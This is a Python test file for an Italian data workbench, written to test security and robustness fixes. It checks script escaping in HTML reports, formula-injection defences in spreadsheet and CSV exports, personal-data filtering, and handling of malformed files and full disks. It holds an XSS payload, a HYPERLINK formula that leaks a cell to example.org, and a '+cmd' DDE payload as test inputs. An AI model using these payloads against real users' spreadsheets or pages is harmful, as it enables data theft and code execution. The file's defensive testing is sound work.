"""Issue 15, items 4–14: exports escaped, personal data kept out, no traceback, no number silently changed,
no leftovers or races. One test (at least) per numbered item, named after it; the bad-input shapes also
feed the property-based suite in ``tests/inputs/test_bad_input.py``."""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import pytest

from workbench.paths import DEMO
from workbench.workshop.store import Store

SCRIPT = "<script>document.title='PWNED'</script><img src=x onerror=\"document.title='PWNED'\">"


def hostile_demo(folder: Path) -> Path:
    """The Cremasco demo with script payloads in the district name and the project families."""
    target = folder / "cremasco"
    shutil.copytree(DEMO / "cremasco", target)
    config = target / "distretto.toml"
    text = config.read_text(encoding="utf-8").replace('nome = "Ambito Cremasco"',
                                                      f"nome = {json.dumps(f'Ambito {SCRIPT} **Cremasco**')}")
    config.write_text(text + f"\nfamiglie_progetto = [{json.dumps(SCRIPT)}, 'lavoro di comunità']\n",
                      encoding="utf-8")
    return target


# -- 4. stored script injection in the HTML reports ------------------------------------------------------

def test_item4_markdown_summaries_escape_district_workshop_and_families():
    import mistune

    from workbench.escape import code_block, markdown
    from workbench.workshop.export import describe_setup

    setup = {"laboratorio": {"nome": SCRIPT, "data": "2025-03-12"}, "distretto": {"nome": SCRIPT},
             "archivio": "laboratori/x.sqlite", "punti": 5, "famiglie": [SCRIPT],
             "riferimenti": {"comune": [], "sub_ambito": [], "area": [], "attore": []}, "grafici": [],
             "oggetti": [], "documenti": []}
    for text in (describe_setup(setup), f"**{markdown(SCRIPT)}**", code_block("``` " + SCRIPT)):
        rendered = mistune.html(text)
        assert "<script" not in rendered and "<img" not in rendered, rendered
    assert "PWNED" in mistune.html(describe_setup(setup))  # shown as text, not dropped


@pytest.mark.slow
@pytest.mark.browser
def test_item4_stored_script_injection_in_html_reports(tmp_path, page):
    from workbench.run.runner import run_district

    reports = tmp_path / "reports"
    run_district(hostile_demo(tmp_path), reports, {"nome_laboratorio": SCRIPT}, progress=False,
                 log=lambda *_: None)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    exported = sorted((reports / "cremasco" / "report").glob("*.html"))
    assert [p.name[:2] for p in exported] == ["01", "02", "03", "04", "05"]
    for html_file in exported:
        page.goto(html_file.as_uri())
        page.wait_for_timeout(500)
        assert page.title() != "PWNED", html_file.name
        assert page.evaluate("document.querySelectorAll('img[src=x], script:not([type])').length") == 0
        assert "<script>document.title" in page.inner_text("body"), html_file.name  # the name, as text
    assert dialogs == [] and page.blocked == []


# -- 5. formula injection in contributi.xlsx, the CSV files and `workbench esporta` ---------------------

FORMULA = '=HYPERLINK("http://example.org/?leak="&B3,"Clicca")'


def assert_no_live_formula(folder: Path, expected: str, sep: str) -> None:
    """No cell of any spreadsheet in ``folder`` is a formula; ``expected`` is shown exactly as typed."""
    import csv

    import openpyxl

    books = sorted(folder.glob("*.xlsx"))
    assert books
    shown = []
    for book in books:
        for sheet in openpyxl.load_workbook(book).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{book.name}!{cell.coordinate} is a formula: {cell.value}"
                    shown += [cell.value] if cell.value == expected else []
    assert shown, "the typed text is kept in the workbook"
    for path in sorted(folder.glob("*.csv")):
        with open(path, encoding="utf-8-sig", newline="") as f:
            cells = [c for row in csv.reader(f, delimiter=sep) for c in row]
        assert not any(c.startswith(("=", "+", "@")) for c in cells), path.name


def test_item5_formula_injection_in_contributi_xlsx_and_csv(tmp_path):
    import csv

    from workbench.workshop.export import export_workshop

    store = Store(tmp_path / "laboratorio-prova.sqlite", name="Prova")
    note = store.add_note("=1+1", "tecnico", "proposta", FORMULA)
    store.add_note("@SUM(A1)", "cittadino", "criticità", "+cmd|' /C calc'!A0")
    store.vote("=1+1", "tecnico", note)
    store.close()
    out = tmp_path / "export"
    export_workshop(tmp_path / "laboratorio-prova.sqlite", out, log=lambda *_: None)
    assert_no_live_formula(out, FORMULA, ";")
    with open(next(out.glob("*-note.csv")), encoding="utf-8-sig", newline="") as f:
        texts = {r["testo"] for r in csv.DictReader(f, delimiter=";")}
    assert texts == {"'" + FORMULA, "'+cmd|' /C calc'!A0"}  # OWASP: a leading apostrophe


def test_item5_formula_injection_in_workbench_esporta(demo_copy, tmp_path):
    from workbench.cli import main

    comuni = demo_copy / "comuni.csv"
    comuni.write_text(comuni.read_text(encoding="utf-8").replace(",Crema,", ',"=1+2",', 1), encoding="utf-8")
    out = tmp_path / "export"
    assert main(["esporta", str(demo_copy), "--out", str(out)]) == 0
    assert_no_live_formula(out, "=1+2", ",")


# -- 6. personal data in the workshop's free text ----------------------------------------------------------

@pytest.mark.parametrize("cf", ["RSSMRA85T10A562S", "rssmra85t10a562s", "RSS MRA 85T10 A562S",
                                "RSS-MRA-85-T-10-A562-S"])
def test_item6_codice_fiscale_refused_in_notes_and_names(tmp_path, cf):
    from workbench.workshop.store import WorkshopError

    store = Store(tmp_path / "lab.sqlite")
    with pytest.raises(WorkshopError, match="codice fiscale"):
        store.add_note("Anna", "tecnico", "criticità", f"La signora con codice {cf} non ha la domiciliare")
    with pytest.raises(WorkshopError, match="codice fiscale"):
        store.add_note(cf, "tecnico", "criticità", "Servizio carente")
    note = store.add_note("Anna", "tecnico", "criticità", "Servizio carente")
    with pytest.raises(WorkshopError, match="codice fiscale"):
        store.edit_note(note, "Anna", f"Servizio carente per {cf}")
    assert [n["testo"] for n in store.notes()] == ["Servizio carente"]
    assert all(cf not in h["testo"] for h in store.history())


def test_item6_phone_and_email_warned_then_saved_when_sent_again(tmp_path):
    from types import SimpleNamespace

    from workbench.workshop.store import PersonalDataWarning
    from workbench.ui.saving import save_once as _save

    store = Store(tmp_path / "lab.sqlite")
    text = "Per il trasporto chiamate il 333 1234567 o scrivete a m.rossi@example.org"
    with pytest.raises(PersonalDataWarning, match="un indirizzo e-mail e un numero di telefono"):
        store.add_note("Anna", "tecnico", "proposta", text)
    assert store.notes() == []
    # the page: the first press shows the warning, the same note sent again is saved (once)
    status, pending = SimpleNamespace(value=""), {}
    action = lambda op: store.add_note("Anna", "tecnico", "proposta", text, op=op)  # noqa: E731
    assert not _save(action, status, "Nota salvata", pending, ("nota", text))
    assert "Attenzione" in status.value and "premi di nuovo" in status.value
    assert _save(action, status, "Nota salvata", pending, ("nota", text))
    assert [n["testo"] for n in store.notes()] == [text]
    assert store.add_note("Bea", "tecnico", "proposta", "Più corse del bus 12 nel 2025") in {
        n["id"] for n in store.notes()}  # ordinary numbers are not phone numbers


def test_item6_facilitator_redacts_a_note_with_history(tmp_path):
    import csv

    from workbench.workshop.store import REDACTED
    from workbench.workshop.export import export_workshop
    from workbench.workshop.page import _redaction_box

    store = Store(tmp_path / "laboratorio-prova.sqlite", name="Prova")
    text = "Il sig. Bianchi (333 1234567) non riceve il pasto"
    note = store.add_note("Anna", "tecnico", "criticità", text, confirmed=True)
    store.edit_note(note, "Anna", text + " da marzo", confirmed=True)
    store.vote("Bea", "cittadino", note)
    box, _ = _redaction_box(store, lambda *_: None)
    pick, typed, buttons = box.children[1], box.children[2], box.children[3]
    assert pick.value == note
    typed.value = corrected = "Un anziano non riceve il pasto a domicilio da marzo"
    buttons.children[0].click()
    assert "oscurata" in buttons.children[1].value
    assert [n["testo"] for n in store.notes()] == [corrected]
    history = store.history(note)
    assert [h["azione"] for h in history] == ["creata", "modificata", "oscurata"]
    assert history[-1]["chi"] == "facilitatore" and all("Bianchi" not in h["testo"] for h in history)
    assert store.notes()[0]["punti"] == 1  # the votes stay
    other = store.add_note("Carla", "tecnico", "proposta", "Scrivetemi a carla@example.org", confirmed=True)
    assert store.redact_note(other, "facilitatore")
    assert store.notes()[-1]["testo"] == REDACTED
    store.close()
    out = tmp_path / "export"
    export_workshop(tmp_path / "laboratorio-prova.sqlite", out, log=lambda *_: None)
    for path in out.glob("*"):
        if path.suffix in (".csv", ".md", ".html"):
            content = path.read_text(encoding="utf-8-sig")
            assert "Bianchi" not in content and "carla@" not in content, path.name


def test_item6_spaced_codice_fiscale_refused_in_tables_too(demo_copy):
    from workbench.errors import Code
    from workbench.inputs.workspace import check_workspace

    meta = demo_copy / "indicatori_meta.csv"
    meta.write_text(meta.read_text(encoding="utf-8").replace("invecchiamento", "RSS MRA 85T10 A562S", 1),
                    encoding="utf-8")
    _, problems = check_workspace(demo_copy)
    assert [(p.code, p.row, p.column) for p in problems if not p.warning] == [(Code.PERSONAL_VALUE, 2, "tema")]


# -- 7. type errors in distretto.toml ---------------------------------------------------------------------

@pytest.mark.parametrize("entry, detail", [
    ('sub_ambiti = "Nord"', "serve un elenco"), ("sub_ambiti = [1, 2]", "solo testi"),
    ('famiglie_progetto = "casa"', "serve un elenco"), ('dati_dimostrativi = [["servizi"]]', "solo testi"),
    ('soglia_riservatezza = "5"', "serve un numero intero"), ("soglia_riservatezza = 0", "fra 1 e 1000"),
    ('anno = "2023"', "serve un numero intero"), ("anno = 20230", "fra 1900 e 2100"), ("anno = 2023.0", "intero"),
    ("note = 3", "serve un testo"), ('nome = ""', "non può essere vuota"), ("nome = true", "serve un testo"),
    ("sub_ambiti = 1979-05-27", "serve un elenco"), ("sub_ambiti = {a = 1}", "serve un elenco"),
])
def test_item7_config_type_errors_are_italian_problems(demo_copy, entry, detail):
    from workbench.cli import main
    from workbench.errors import Code
    from workbench.inputs.workspace import check_workspace

    config = demo_copy / "distretto.toml"
    key = entry.split(" =")[0]
    lines = [line for line in config.read_text(encoding="utf-8").splitlines() if not line.startswith(key + " ")]
    config.write_text("\n".join(lines + [entry]) + "\n", encoding="utf-8")
    workspace, problems = check_workspace(demo_copy)  # no TypeError
    errors = [p for p in problems if not p.warning]
    assert workspace is None and [(p.code, p.column) for p in errors] == [(Code.CONFIG_VALUE, key)]
    assert detail in str(errors[0]) and str(errors[0]).startswith("Errore — distretto.toml: distretto.toml, voce")
    assert main(["verifica", str(demo_copy)]) == 1


def test_item7_toml_syntax_error_in_italian(demo_copy):
    from workbench.inputs.workspace import check_workspace

    (demo_copy / "distretto.toml").write_text('nome = "Ambito" x\nanno = 2023\n', encoding="utf-8")
    _, problems = check_workspace(demo_copy)
    assert "errore di sintassi alla riga 1, colonna 17" in str(problems[0])
    assert "Expected" not in str(problems[0])


# -- 11. 1e308 and other values no real datum has ----------------------------------------------------------

def _set_cell(path: Path, row: int, column: str, value: str) -> None:
    """Change one cell of a demo CSV (``row`` as Excel counts, header = 1)."""
    import csv

    with open(path, encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    rows[row - 1][rows[0].index(column)] = value
    with open(path, "w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)


@pytest.mark.parametrize("value", ["1e308", "-1e308", "1e16", "1e400", "inf", "-Infinity", "nan", "1.0e+309"])
def test_item11_overflowing_and_non_finite_values_refused_by_verifica(demo_copy, value):
    from workbench.errors import Code
    from workbench.inputs.workspace import check_workspace

    _set_cell(demo_copy / "indicatori.csv", 2, "valore", value)
    workspace, problems = check_workspace(demo_copy)
    errors = [p for p in problems if not p.warning]
    assert workspace is None
    assert [(p.code, p.row, p.column, p.value) for p in errors] in (
        [(Code.NUMBER_TOO_LARGE, 2, "valore", value)], [(Code.NOT_NUMBER, 2, "valore", value)])


def test_item11_largest_accepted_value_loads(demo_copy):
    from workbench.inputs.workspace import check_workspace

    _set_cell(demo_copy / "indicatori.csv", 2, "valore", "1e15")
    workspace, problems = check_workspace(demo_copy)
    assert workspace is not None and workspace.tables["indicatori"]["valore"].iloc[0] == 1e15


# -- 12. ambiguous thousands separators --------------------------------------------------------------------

INDICATORI = "istat,anno,indicatore,valore\n"


def _indicator_values(demo_copy: Path, values: list[str], sep: str = ",") -> tuple:
    from workbench.inputs.workspace import check_workspace

    lines = [f"019035{sep}{2010 + i}{sep}indice_vecchiaia{sep}\"{v}\"" for i, v in enumerate(values)]
    (demo_copy / "indicatori.csv").write_text(INDICATORI.replace(",", sep) + "\n".join(lines) + "\n",
                                              encoding="utf-8")
    return check_workspace(demo_copy)


def test_item12_english_thousands_among_italian_numbers_is_an_error_naming_the_cell(demo_copy):
    from workbench.errors import Code

    workspace, problems = _indicator_values(demo_copy, ["1,234.56", "12,5", "7"])
    errors = [p for p in problems if not p.warning]
    assert workspace is None
    assert [(p.code, p.file, p.row, p.column, p.value) for p in errors] == [
        (Code.AMBIGUOUS_NUMBER, "indicatori.csv", 2, "valore", "1,234.56")]
    assert "«12,5»" in str(errors[0])


def test_item12_english_thousands_in_a_semicolon_file_is_an_error(demo_copy):
    from workbench.errors import Code

    workspace, problems = _indicator_values(demo_copy, ["1,234.56", "2.500"], sep=";")
    assert workspace is None and [p.code for p in problems if not p.warning] == [Code.AMBIGUOUS_NUMBER]


@pytest.mark.parametrize("values, expected", [
    (["1,234.56", "12.5", "1,234", "3"], [1234.56, 12.5, 1234.0, 3.0]),      # English file: unambiguous
    (["1.234,56", "12,5", "1,234", "3"], [1234.56, 12.5, 1.234, 3.0]),      # Italian file, as before
    (["1,234,567", "0.5"], [1234567.0, 0.5]),
])
def test_item12_numbers_read_by_the_file_convention(demo_copy, values, expected):
    workspace, problems = _indicator_values(demo_copy, values)
    assert workspace is not None, problems
    assert workspace.tables["indicatori"]["valore"].tolist() == expected


# -- 13. files mixing UTF-8 and Windows-1252 ---------------------------------------------------------------

COMUNI_HEADER = "istat,comune,popolazione\n"


@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"])
def test_item13_mixed_utf8_and_windows1252_refused_naming_the_first_bad_row(demo_copy, bom):
    from workbench.errors import Code
    from workbench.inputs.workspace import check_workspace

    comuni = demo_copy / "comuni.csv"
    lines = comuni.read_bytes().decode("utf-8").splitlines()
    body = [line.encode("utf-8") for line in lines]
    body[3] = lines[3].replace("Camisano", "Bagnolò").encode("utf-8")           # UTF-8 here...
    body[6] = lines[6].replace("Capralba", "Capralbà").encode("cp1252")         # ...Windows-1252 there
    comuni.write_bytes(bom + b"\n".join(body) + b"\n")
    workspace, problems = check_workspace(demo_copy)
    errors = [p for p in problems if not p.warning]
    assert workspace is None
    assert [(p.code, p.file, p.row) for p in errors] == [(Code.ENCODING_MIXED, "comuni.csv", 7)]
    assert "Capralbà" in str(errors[0]) and "CSV UTF-8" in str(errors[0])
    assert ("BOM" in str(errors[0])) == bool(bom)


def test_item13_bom_followed_by_windows1252_is_named(demo_copy):
    from workbench.errors import Code
    from workbench.inputs.workspace import check_workspace

    comuni = demo_copy / "comuni.csv"
    text = comuni.read_text(encoding="utf-8").replace("Crema,", "Cremà,", 1)
    comuni.write_bytes(b"\xef\xbb\xbf" + text.encode("cp1252"))
    _, problems = check_workspace(demo_copy)
    assert [p.code for p in problems if not p.warning] == [Code.ENCODING_MIXED]  # not «Manca la colonna istat»


def test_item13_plain_windows1252_still_loads(demo_copy):
    from workbench.inputs.workspace import check_workspace

    comuni = demo_copy / "comuni.csv"
    comuni.write_bytes(comuni.read_text(encoding="utf-8").replace("Crema,", "Cremà,", 1).encode("cp1252"))
    workspace, problems = check_workspace(demo_copy)
    assert workspace is not None and "Cremà" in set(workspace.table("comuni")["comune"])


# -- 8. a huge declared dimension: bounded by the used range --------------------------------------------

def _comuni_xlsx(path: Path, extra=None) -> Path:
    """The demo's comuni as an Excel file; ``extra(book)`` adds what a careless spreadsheet has."""
    import csv

    import openpyxl

    book = openpyxl.Workbook()
    with open(DEMO / "cremasco" / "comuni.csv", encoding="utf-8") as f:
        for row in csv.reader(f):
            book.active.append(row)
    if extra:
        extra(book)
    book.save(path)
    return path


MEASURE = """
import resource, sys, time
from workbench.inputs.workspace import check_workspace
start = time.perf_counter()
workspace, problems = check_workspace(sys.argv[1])
peak = next(int(line.split()[1]) for line in open("/proc/self/status") if line.startswith("VmHWM:"))
print(round(time.perf_counter() - start, 1), peak, [p.code.name for p in problems if not p.warning])
"""


def test_item8_stray_cell_at_XFD1048576_bounded_by_the_used_range(demo_copy):
    import subprocess
    import sys

    (demo_copy / "comuni.csv").unlink()
    _comuni_xlsx(demo_copy / "comuni.xlsx", lambda book: book.active.cell(1048576, 16384, "nota"))
    assert (demo_copy / "comuni.xlsx").stat().st_size < 10_000
    # the child's own peak (VmHWM), not ru_maxrss, which counts the forked copy of this pytest process
    out = subprocess.run([sys.executable, "-c", MEASURE, str(demo_copy)], capture_output=True, text=True,
                         check=True).stdout
    seconds, peak_kb, codes = out.split(" ", 2)
    assert codes.strip() == "['STRAY_VALUE']", out
    assert int(peak_kb) < 600 * 1024, f"peak {int(peak_kb) // 1024} MB"  # was 3.7 GB, then MemoryError
    assert float(seconds) < 20


def test_item8_absurd_sheets_refused_clearly(demo_copy, monkeypatch):
    from workbench.inputs import readers
    from workbench.errors import Code
    from workbench.inputs.workspace import check_workspace

    (demo_copy / "comuni.csv").unlink()
    _comuni_xlsx(demo_copy / "comuni.xlsx")
    monkeypatch.setattr(readers, "MAX_XLSX_CELLS", 100)
    _, problems = check_workspace(demo_copy)
    assert [p.code for p in problems if not p.warning] == [Code.SHEET_TOO_LARGE]
    assert "più di 100 celle" in str(problems[0]) and "CSV" in str(problems[0])
    monkeypatch.setattr(readers, "MAX_XLSX_CELLS", 10**7)
    monkeypatch.setattr(readers, "MAX_SHEET_BYTES", 1000)  # a zip bomb: refused before it is parsed
    _, problems = check_workspace(demo_copy)
    assert [p.code for p in problems if not p.warning] == [Code.SHEET_TOO_LARGE]
    _comuni_xlsx(demo_copy / "comuni.xlsx", lambda book: [book.active.cell(1, c, f"c{c}") for c in range(4, 1200)])
    monkeypatch.setattr(readers, "MAX_SHEET_BYTES", 1 << 30)
    _, problems = check_workspace(demo_copy)
    assert [p.code for p in problems if not p.warning] == [Code.SHEET_TOO_LARGE]
    assert "la riga 1 ha 1199 colonne" in str(problems[0])


# -- misleading messages: say what is really wrong ------------------------------------------------------

def _errors(folder: Path) -> list:
    from workbench.inputs.workspace import check_workspace

    return [p for p in check_workspace(folder)[1] if not p.warning]


def test_data_on_the_second_sheet_is_named(demo_copy):
    from workbench.errors import Code

    (demo_copy / "comuni.csv").unlink()

    def move(book):
        data = book.active
        book.create_sheet("Istruzioni", 0)
        data.title = "Comuni 2023"

    _comuni_xlsx(demo_copy / "comuni.xlsx", move)
    errors = _errors(demo_copy)
    assert [p.code for p in errors] == [Code.SHEET_EMPTY] and "«Comuni 2023»" in str(errors[0])


def test_formulas_never_computed_are_named_not_missing_values(demo_copy):
    from workbench.errors import Code

    (demo_copy / "comuni.csv").unlink()

    def formulas(book):
        for row in range(2, book.active.max_row + 1):
            book.active.cell(row, 3, f"=D{row}+E{row}+F{row}")  # popolazione as a sum, never computed

    _comuni_xlsx(demo_copy / "comuni.xlsx", formulas)
    errors = _errors(demo_copy)
    assert {p.code for p in errors[:-1]} == {Code.FORMULA_NOT_COMPUTED}
    assert "Code.VALUE_MISSING" not in {str(p.code) for p in errors}
    assert errors[0].row == 2 and errors[0].column == "popolazione" and "C2" in str(errors[0])
    assert "Excel" in errors[0].what_to_do


def test_computed_formulas_are_read_by_their_value(demo_copy, tmp_path):
    """A workbook saved by Excel keeps the computed values next to the formulas: those are read."""
    import zipfile

    from workbench.inputs.workspace import check_workspace

    (demo_copy / "comuni.csv").unlink()
    plain = _comuni_xlsx(tmp_path / "plain.xlsx", lambda b: b.active.cell(2, 3, "=3000+857"))
    with zipfile.ZipFile(plain) as z, zipfile.ZipFile(demo_copy / "comuni.xlsx", "w") as out:
        for item in z.infolist():
            data = z.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                # no cached value: written <v /> or <v></v> (openpyxl with or without lxml)
                data = re.sub(rb"<f>3000\+857</f><v ?/>|<f>3000\+857</f><v></v>", b"<f>3000+857</f><v>3857</v>", data)
                assert b"<v>3857</v>" in data
            out.writestr(item, data)
    workspace, _ = check_workspace(demo_copy)
    assert workspace is not None and workspace.table("comuni")["popolazione"].iloc[0] == 3857


@pytest.mark.parametrize("name, content, expected", [
    ("comuni.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "Excel 97-2003 (.xls)"),
    ("comuni.ods", b"PK\x03\x04", "OpenDocument (.ods, LibreOffice)"),
    ("comuni.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "Excel 97-2003 (.xls)"),  # renamed
])
def test_xls_and_ods_named_as_unsupported_formats(demo_copy, name, content, expected):
    from workbench.errors import Code

    (demo_copy / "comuni.csv").unlink()
    (demo_copy / name).write_bytes(content)
    errors = _errors(demo_copy)
    assert [p.code for p in errors] == [Code.FORMAT_UNSUPPORTED]
    assert expected in str(errors[0]) and ".xlsx" in errors[0].what_to_do and "Manca" not in str(errors[0])


def test_renamed_ods_named_as_unsupported_format(demo_copy):
    import zipfile

    from workbench.errors import Code

    (demo_copy / "comuni.csv").unlink()
    with zipfile.ZipFile(demo_copy / "comuni.xlsx", "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<x/>")
    assert [p.code for p in _errors(demo_copy)] == [Code.FORMAT_UNSUPPORTED]


def test_stray_note_far_down_a_sheet_is_named(demo_copy):
    from workbench.errors import Code

    (demo_copy / "comuni.csv").unlink()
    _comuni_xlsx(demo_copy / "comuni.xlsx", lambda book: book.active.cell(500, 9, "verificare con l'ufficio"))
    errors = _errors(demo_copy)
    assert [(p.code, p.row) for p in errors] == [(Code.STRAY_VALUE, 500)]
    assert "I500" in str(errors[0]) and "compare più volte" not in str(errors[0])


def test_stray_note_in_an_unnamed_csv_column_is_named(demo_copy):
    from workbench.errors import Code

    comuni = demo_copy / "comuni.csv"
    lines = comuni.read_text(encoding="utf-8").splitlines()
    lines = [lines[0] + ",,"] + [line + ",," for line in lines[1:]]
    lines[4] = lines[4][:-1] + "da ricontrollare"
    comuni.write_text("\n".join(lines) + "\n", encoding="utf-8")
    errors = _errors(demo_copy)
    assert [(p.code, p.row, p.detail) for p in errors] == [(Code.STRAY_VALUE, 5, "H5")]


def test_downloaded_twice_comuni_1_csv(demo_copy):
    from workbench.errors import Code
    from workbench.inputs.workspace import check_workspace

    (demo_copy / "comuni.csv").rename(demo_copy / "comuni (1).csv")
    errors = _errors(demo_copy)
    assert [p.code for p in errors] == [Code.FILE_MISNAMED]
    assert "comuni (1).csv" in str(errors[0]) and "Rinomina il file in comuni.csv" in str(errors[0])
    shutil.copyfile(demo_copy / "comuni (1).csv", demo_copy / "comuni.csv")
    workspace, problems = check_workspace(demo_copy)
    assert workspace is not None and [p.code for p in problems] == [Code.FILE_COPY]


# -- 9. damaged workshop stores ---------------------------------------------------------------------------

def _damage(path: Path, how: str) -> None:
    data = path.read_bytes()
    if how == "troncato":
        path.write_bytes(data[: len(data) // 3])
    elif how == "intestazione sovrascritta":
        path.write_bytes(b"\0" * 100 + data[100:])
    elif how == "pagine sovrascritte":
        path.write_bytes(data[:4096] + b"\xff" * (len(data) - 4096))
    elif how == "file di testo":
        path.write_text("note del laboratorio\nAnna: sportello unico\n", encoding="utf-8")
    elif how == "schema precedente":
        import sqlite3

        db = sqlite3.connect(path)
        db.executescript("DROP TABLE valutazioni; ALTER TABLE note DROP COLUMN famiglia;")
        db.close()


@pytest.mark.parametrize("how", ["troncato", "intestazione sovrascritta", "pagine sovrascritte", "file di testo",
                                 "schema precedente"])
def test_item9_damaged_store_is_named_pointing_to_the_backup_and_never_overwritten(tmp_path, how, capsys):
    import hashlib

    from workbench.cli import main
    from workbench.workshop.store import StoreDamaged

    path = tmp_path / "laboratorio-prova.sqlite"
    store = Store(path, name="Prova")
    for i in range(300):
        store.add_note(f"p{i % 9}", "tecnico", "proposta", f"Nota {i} " + "testo " * 20)
    store.close()
    assert main(["esporta-laboratorio", str(path)]) == 0  # writes the backup copy
    backup = next((tmp_path / "esportazione-laboratorio-prova").glob("*-copia-*.sqlite"))
    capsys.readouterr()
    _damage(path, how)
    before = hashlib.sha256(path.read_bytes()).hexdigest()
    assert main(["esporta-laboratorio", str(path)]) == 1
    err = capsys.readouterr().err
    assert "danneggiato" in err and str(backup) in err and "Traceback" not in err, err
    assert "file is not a database" not in err and "malformed" not in err
    for readonly in (False, True):
        with pytest.raises(StoreDamaged, match="Il file non è stato modificato"):
            Store(path, readonly=readonly)
    assert hashlib.sha256(path.read_bytes()).hexdigest() == before
    assert Store(backup, readonly=True).counts()["note"] == 300  # the backup it points to is good


def test_item9_workshop_page_shows_the_damage_in_italian(tmp_path, monkeypatch):
    from workbench.workshop import page as workshop_page

    path = tmp_path / "laboratorio-prova.sqlite"
    path.write_text("non un database", encoding="utf-8")
    shown = []
    monkeypatch.setattr("IPython.display.display", lambda obj, *a, **k: shown.append(getattr(obj, "data", obj)))
    setup = {"laboratorio": {"nome": "Prova", "data": ""}, "distretto": {"nome": "Ambito"}, "punti": 5,
             "archivio": str(path), "archivio_assoluto": str(path)}
    assert workshop_page.facilitator_page(setup) is None
    assert "danneggiato" in shown[0] and "file is not a database" not in shown[0]


# -- 10. a full disk -------------------------------------------------------------------------------------

def _unshare_works() -> bool:
    import subprocess

    probe = "mkdir -p /tmp/wb-probe && mount -t tmpfs -o size=1m none /tmp/wb-probe"
    try:
        return subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", probe],
                              capture_output=True, timeout=30).returncode == 0
    except (OSError, subprocess.SubprocessError):
        return False


full_disk = pytest.mark.skipif(not _unshare_works(), reason="needs unshare (user and mount namespaces)")


def on_full_disk(tmp_path: Path, size: str, command: str, fill: str = "") -> tuple[int, str, str]:
    """Run a workbench command with ``DISCO`` a tmpfs of ``size`` (only this process sees it): a real ENOSPC.

    ``fill`` runs first (e.g. copy a report there, then fill the disk); the listing of ``DISCO`` after the
    command (hidden files included) is returned with its output."""
    import subprocess
    import sys

    disk = tmp_path / "disco"
    disk.mkdir()
    script = (f"mount -t tmpfs -o size={size} none {disk} && cd {disk} && {fill or 'true'}; "
              f"{sys.executable} -m workbench {command.replace('DISCO', str(disk))}; echo \"rc=$?\"; "
              f"find {disk} -name '*.tmp' -o -name '.*' -print | sed 's|{disk}|DISCO|'")
    done = subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script],
                          capture_output=True, text=True, timeout=600)
    out, _, listing = done.stdout.rpartition("rc=")
    code, _, listing = listing.partition("\n")
    return int(code), out + done.stderr, listing


@full_disk
@pytest.mark.slow
def test_item10_full_disk_in_esegui(tmp_path):
    code, out, listing = on_full_disk(tmp_path, "3m", f"esegui {DEMO / 'cremasco'} --out DISCO/report --silenzioso")
    assert code == 1 and "il disco è pieno" in out and "Libera spazio" in out, out
    assert "Errno" not in out and "Traceback" not in out and "No space" not in out, out
    assert [line for line in listing.splitlines() if line and not line.endswith(".lock")] == [], listing


@full_disk
@pytest.mark.slow
def test_item10_full_disk_in_sito_leaves_no_index_html_tmp(tmp_path, demo_reports):
    fill = f"cp -r {demo_reports} report && (dd if=/dev/zero of=riempi bs=64k 2>/dev/null || true)"
    code, out, listing = on_full_disk(tmp_path, "40m", "sito DISCO/report --zip DISCO/report.zip", fill)
    assert code == 1 and "il disco è pieno" in out and "Traceback" not in out, out
    assert ".tmp" not in listing, listing


@full_disk
def test_item10_full_disk_in_esporta_laboratorio(tmp_path):
    store = Store(tmp_path / "laboratorio-prova.sqlite", name="Prova")
    for i in range(200):
        store.add_note("Anna", "tecnico", "proposta", f"Nota {i} " + "testo " * 50)
    store.close()
    code, out, _ = on_full_disk(tmp_path, "200k", f"esporta-laboratorio {tmp_path / 'laboratorio-prova.sqlite'} "
                                                   "--out DISCO/export")
    assert code == 1 and "il disco è pieno" in out and "Traceback" not in out, out
    assert Store(tmp_path / "laboratorio-prova.sqlite", readonly=True).counts()["note"] == 200


def _enospc(*_, **__):
    import errno

    raise OSError(errno.ENOSPC, "No space left on device")


def test_item10_sito_on_a_full_disk_without_namespaces(demo_reports, monkeypatch, tmp_path, capsys):
    from workbench.cli import main

    reports = tmp_path / "reports"
    shutil.copytree(demo_reports, reports)
    monkeypatch.setattr(Path, "write_text", _enospc)
    assert main(["sito", str(reports)]) == 1
    assert "il disco è pieno" in capsys.readouterr().err
    assert not (reports / "index.html.tmp").exists()


def test_item10_export_on_a_full_disk_without_namespaces(tmp_path, monkeypatch, capsys):
    from workbench.workshop import export as workshop_export
    from workbench.cli import main

    Store(tmp_path / "laboratorio-prova.sqlite", name="Prova").close()
    monkeypatch.setattr(workshop_export, "write_csv", _enospc)
    assert main(["esporta-laboratorio", str(tmp_path / "laboratorio-prova.sqlite")]) == 1
    assert "il disco è pieno" in capsys.readouterr().err


# -- 14. leftovers and races -------------------------------------------------------------------------------

def _hidden(reports: Path) -> list[str]:
    return sorted(p.name for p in reports.iterdir() if p.name.startswith(".") and not p.name.endswith(".lock"))


@pytest.mark.slow
def test_item14_kill_9_leftovers_are_cleaned_by_the_next_run(tmp_path):
    import os
    import signal
    import subprocess
    import sys
    import time

    from workbench.run.runner import run_district

    reports = tmp_path / "reports"
    proc = subprocess.Popen([sys.executable, "-m", "workbench", "esegui", str(DEMO / "cremasco"), "--out",
                             str(reports), "--silenzioso"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                            start_new_session=True)
    deadline = time.time() + 300
    while time.time() < deadline and not list(reports.glob(".cremasco-*/report/*.ipynb")):
        time.sleep(0.05)
    os.killpg(proc.pid, signal.SIGKILL)  # the runner and its kernel, mid-run
    proc.wait(timeout=60)
    assert len(_hidden(reports)) == 1 and not (reports / "cremasco").exists()
    run_district(DEMO / "cremasco", reports, progress=False, log=lambda *_: None)
    assert _hidden(reports) == [] and (reports / "cremasco" / "manifest.json").is_file()
    assert sorted(p.name for p in reports.iterdir()) == [".cremasco.lock", "cremasco", "laboratori", "piani"]


def test_item14_a_living_run_keeps_its_temporary_folder(tmp_path):
